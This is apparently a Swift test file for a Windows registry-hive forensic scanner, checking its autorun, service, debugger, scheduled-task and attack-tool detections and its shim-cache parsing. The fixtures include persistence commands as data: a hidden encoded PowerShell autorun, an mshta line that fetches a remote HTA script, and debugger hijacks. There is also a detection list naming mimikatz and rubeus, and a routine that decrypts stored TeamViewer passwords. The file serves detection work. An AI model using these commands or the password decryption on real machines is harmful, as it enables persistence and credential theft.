import Pipeline
import PipelineTesting
import Testing

@testable import RegistryHive

// What is found in the hives of HiveSamples: artefacts one by one, and the whole output as golden files.

@Suite struct HiveArtefactTests {
    @Test(arguments: [
        ("software", "SOFTWARE"), ("system", "SYSTEM"), ("user", "NTUSER.DAT"), ("amcache", "Amcache.hve"),
        ("oldAmcache", "Amcache.hve"),
    ])
    func outputIsAsRecorded(sample: String, name: String) {
        let output = scan(
            RegistryHiveStage(), Bytes(HiveBuilder.hive(tree(sample))), path: "C/" + name, kind: "Registry Hive")
        #expect(output.issues.isEmpty)
        #expect(goldenDifference("hive-\(sample).txt", output.text) == nil)
    }

    private func tree(_ sample: String) -> KeyNode {
        switch sample {
        case "software": HiveSamples.software()
        case "system": HiveSamples.system()
        case "user": HiveSamples.user()
        case "amcache": HiveSamples.amcache()
        default: HiveSamples.oldAmcache()
        }
    }

    private func reasons(_ root: KeyNode, _ type: String) -> [String: [String]] {
        let output = scan(
            RegistryHiveStage(), Bytes(HiveBuilder.hive(root)), path: "x", kind: "Registry Hive")
        var found: [String: [String]] = [:]
        for finding in output.findings {
            guard case .record(let subject) = finding.subject, subject.type.name == type else { continue }
            for reason in finding.reasons {
                found[reason.signature.ruleName, default: []] += reason.matched.map {
                    String(decoding: $0.data, as: UTF8.self)
                }
            }
        }
        return found
    }

    // MARK: Heuristics

    @Test func suspiciousAutorunsAreReported() {
        let found = reasons(HiveSamples.software(), "autorun entry")
        #expect(
            found == [
                "HiveAutorunUserWritable": ["\"C:\\Users\\Public\\Libraries\\updater.exe\" /silent"],
                "HiveAutorunEncodedPowerShell": ["powershell.exe -NoP -W Hidden -Enc ZQBjAGgAbwAgAGgAaQA="],
                "HiveAutorunScriptHost": ["mshta.exe http://198.51.100.7/a.hta"],
            ])
    }

    @Test func suspiciousServicesAreReported() {
        let found = reasons(HiveSamples.system(), "Windows service")
        #expect(
            found["HiveServiceUserWritable"] == ["C:\\Windows\\Temp\\svc.exe -k run", "C:\\Windows\\Temp\\again.exe"])
        #expect(found["HiveServiceShell"] == ["%COMSPEC% /C echo hi > C:\\x.txt"])
        #expect(found.count == 2)
    }

    @Test func debuggersAndHiddenTasksAreReported() {
        #expect(
            reasons(HiveSamples.software(), "registered debugger") == [
                "HiveDebuggerLogonScreen": ["C:\\Windows\\System32\\cmd.exe"],
                "HiveDebugger": ["C:\\ProgramData\\m.exe"],
            ])
        #expect(
            reasons(HiveSamples.software(), "registry scheduled task") == [
                "HiveHiddenTask": ["\\Hidden"], "HiveTaskUserWritable": ["C:\\Windows\\Temp\\update.exe /q"],
            ])
    }

    @Test func attackToolsAreReported() {
        #expect(reasons(HiveSamples.amcache(), "AmCache entry")["HiveAttackToolName"] == ["rubeus.exe"])
        #expect(reasons(HiveSamples.oldAmcache(), "AmCache entry")["HiveAttackToolName"] == ["C:\\Tools\\wce.exe"])
        #expect(
            reasons(HiveSamples.system(), "shim cache entry") == ["HiveAttackToolName": ["C:\\Tools\\mimikatz.exe"]])
        #expect(
            reasons(HiveSamples.user(), "user assist entry") == ["HiveAttackToolName": ["C:\\Tools\\mimikatz.exe"]])
    }

    // MARK: The compatibility cache

    @Test(arguments: [
        (ShimCacheSamples.xp, 0), (ShimCacheSamples.server2003, 0), (ShimCacheSamples.server2003x64, 0),
        (ShimCacheSamples.vista, 1), (ShimCacheSamples.vistax64, 1), (ShimCacheSamples.seven, 1),
        (ShimCacheSamples.sevenx64, 1), (ShimCacheSamples.windows8, 1), (ShimCacheSamples.windows81, 1),
        (ShimCacheSamples.windows10, 0), (ShimCacheSamples.windows10first, 0),
    ])
    func allLayoutsAreRead(data: [UInt8], flags: Int) throws {
        let cache = try ShimCache(data.rawSpan)
        #expect(cache.problem == nil)
        #expect(cache.entries.map(\.path) == ShimCacheSamples.paths)
        #expect(cache.entries.allSatisfy { $0.modified == Timestamp(filetime: HiveSamples.time) })
        #expect(cache.entries.allSatisfy { $0.wasRun == (flags == 1 ? true : nil) })
    }

    @Test func damagedCachesAreReadAsFarAsTheyGo() throws {
        for data in [ShimCacheSamples.xp, ShimCacheSamples.sevenx64, ShimCacheSamples.windows10] {
            var told = 0
            for length in 4..<data.count {
                let cache = try ShimCache(Array(data[..<length]).rawSpan)
                #expect(cache.entries.count <= 2)
                if cache.problem != nil { told += 1 }
            }
            #expect(told > 0)
            var counted = data
            put(&counted, 4, [0xFF, 0xFF, 0xFF, 0xFF])
            #expect(try ShimCache(counted.rawSpan).entries.count <= data.count / 32)
        }
        #expect(throws: ParseError(.unsupported, "", at: 0)) { try ShimCache([1, 2, 3, 4].rawSpan) }
    }

    // MARK: Small parts

    @Test func namesAreTurned() {
        #expect(rot13("P:\\Gbbyf\\zvzvxngm.rkr 12") == "C:\\Tools\\mimikatz.exe 12")
        #expect(rot13(rot13("Straße\u{1F600}")) == "Straße\u{1F600}")
    }

    @Test func passwordsOfTeamViewerAreDecrypted() {
        #expect(TeamViewerPassword.decrypt(HiveSamples.teamViewerSecret) == "Demo!Pass9")
        #expect(TeamViewerPassword.decrypt([]) == nil)
        #expect(TeamViewerPassword.decrypt([UInt8](repeating: 1, count: 17)) == nil)
        #expect(TeamViewerPassword(name: "x", password: "Demo!Pass9", offset: 0).masked == "Dem*******")
    }
}
